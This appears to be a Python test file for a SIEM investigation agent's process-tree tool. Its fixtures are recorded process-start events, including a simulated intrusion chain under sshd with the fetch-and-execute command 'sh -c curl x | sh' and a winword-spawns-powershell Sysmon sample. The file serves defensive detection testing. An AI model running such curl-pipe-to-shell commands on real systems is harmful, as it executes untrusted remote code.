"""Processes out of events, and the tree around one of them, from recorded shapes."""

from __future__ import annotations

from collections.abc import Iterable
from datetime import UTC, datetime, timedelta
from typing import Any

from services.agents.toolkit.process_tree import base_name, process_of, starts_in
from services.agents.toolkit.sources import Found, Sources
from services.agents.toolkit.tools.processes import PROCESS_TREE, TreeArguments
from services.siem.logs.query import And, Node, Term, parse
from shared.client import Client
from shared.contracts.logs import LogEvent, LogQuery

T0 = datetime(2026, 11, 22, 2, 14, tzinfo=UTC)
Row = tuple[int, int, int, str]


def start(second: int, pid: int, parent: int, command: str, **ecs: Any) -> LogEvent:
    fields: dict[str, Any] = {
        "event.category": ["process"],
        "event.type": ["start"],
        "host.name": "web01",
        "process.pid": pid,
        "process.parent.pid": parent,
        "process.command_line": command,
        "process.executable": f"/usr/bin/{command.split(maxsplit=1)[0]}",
        **ecs,
    }
    moment = T0 + timedelta(seconds=second)
    return LogEvent(
        id=f"log-{second}-{pid}", timestamp=moment, ingested_at=moment, source="s", dataset="auditd", message=command,
        ecs=fields, raw=command, receipt="r",
    )  # fmt: skip


class Recorded(Sources):
    """A siem of these events: answers a query as the real one does, newest first, and counts what it was asked."""

    def __init__(self, events: Iterable[LogEvent]) -> None:
        super().__init__(Client("http://nowhere.invalid"))
        self._all = sorted(events, key=lambda event: event.timestamp, reverse=True)
        self.asked = 0

    async def pages(self, query: LogQuery, most: int) -> Found:
        self.asked += 1
        found = [event for event in self._all if _holds(event, query)]
        return Found(found[: most * query.limit], len(found) <= most * query.limit)

    async def logs(self, query: LogQuery) -> list[LogEvent]:
        return (await self.pages(query, 1)).events


def _holds(event: LogEvent, query: LogQuery) -> bool:
    assert query.since is not None
    assert query.until is not None
    tree = parse(query.q)
    terms = tree.parts if isinstance(tree, And) else (tree,)
    return query.since <= event.timestamp < query.until and all(_matches(event, term) for term in terms)


def _matches(event: LogEvent, term: Node) -> bool:
    assert isinstance(term, Term)
    assert term.field is not None
    value = event.ecs.get(term.field)
    return term.pieces[0] in [str(item) for item in (value if isinstance(value, list) else [value])]


async def tree(sources: Sources, **target: Any) -> dict[str, str]:
    """Command line -> relation."""
    found = await PROCESS_TREE.run(TreeArguments(host="web01", at=T0 + timedelta(seconds=30), **target), sources)
    return {process.command_line: process.relation for process in found["processes"]}


LINUX = [
    start(-7200, 10, 1, "sshd -D"),
    start(0, 20, 10, "bash -i"),
    start(10, 30, 20, "sh -c curl x | sh"),
    start(11, 31, 30, "curl x"),
    start(12, 32, 30, "sh"),
    start(14, 33, 32, "id"),
    start(15, 40, 99, "unrelated"),
]


async def test_a_tree_has_the_ancestors_the_process_and_what_it_started() -> None:
    assert await tree(Recorded(LINUX), pid=30) == {
        "sshd -D": "ancestor",
        "bash -i": "ancestor",
        "sh -c curl x | sh": "self",
        "curl x": "descendant",
        "sh": "descendant",
        "id": "descendant",
    }


async def test_a_small_host_is_read_with_few_questions() -> None:
    sources = Recorded(LINUX)
    await tree(sources, pid=30)
    assert sources.asked <= 3


async def test_of_a_reused_pid_the_last_start_before_the_event_counts() -> None:
    reused = [*LINUX, start(-60, 30, 20, "an older one"), start(300, 30, 77, "a later one")]
    found = await tree(Recorded(reused), pid=30)
    assert found["sh -c curl x | sh"] == "self"
    assert "a later one" not in found


async def test_sysmon_processes_are_followed_by_their_entity_ids() -> None:
    events = [
        start(0, 5, 1, "explorer", **{"process.entity_id": "{A}"}),
        start(1, 6, 5, "winword", **{"process.entity_id": "{B}", "process.parent.entity_id": "{A}"}),
        start(2, 7, 6, "powershell", **{"process.entity_id": "{C}", "process.parent.entity_id": "{B}"}),
        start(3, 7, 6, "other", **{"process.entity_id": "{D}", "process.parent.entity_id": "{X}"}),
    ]
    found = await tree(Recorded(events), entity_id="{B}")
    assert found == {"explorer": "ancestor", "winword": "self", "powershell": "descendant"}


async def test_a_process_that_nobody_logged_has_no_tree() -> None:
    assert await tree(Recorded(LINUX), pid=4711) == {}


async def test_a_process_that_starts_thousands_is_cut_short() -> None:
    crowd = [start(number // 100, 1000 + number, 30, f"child {number}") for number in range(2000)]
    assert len(await tree(Recorded([*LINUX, *crowd]), pid=30)) < 300


async def test_a_loop_of_parents_ends() -> None:
    loop = [start(0, 50, 51, "a"), start(1, 51, 50, "b")]
    assert set(await tree(Recorded(loop), pid=50)) == {"a", "b"}


def test_only_starts_are_processes_and_each_once() -> None:
    ended = {"log_id": "x", "timestamp": "t", "ecs": {"event.type": ["end"], "event.category": ["process"]}}
    assert process_of(ended) is None
    one = {
        "log_id": "x",
        "timestamp": "2026-11-22T02:14:00.000Z",
        "ecs": {
            "event.type": ["start"],
            "event.category": ["process"],
            "process.pid": "0x1f4",
            "process.executable": "C:\\Windows\\System32\\cmd.exe",
            "process.entity_id": "{A}",
        },
    }
    [process] = starts_in([one, {**one, "log_id": "y"}])
    assert (process.pid, process.log_id) == (500, "x")


def test_base_names_are_those_of_both_systems() -> None:
    assert base_name("C:\\Windows\\System32\\CMD.EXE") == "cmd"
    assert base_name("/usr/bin/bash") == "bash"
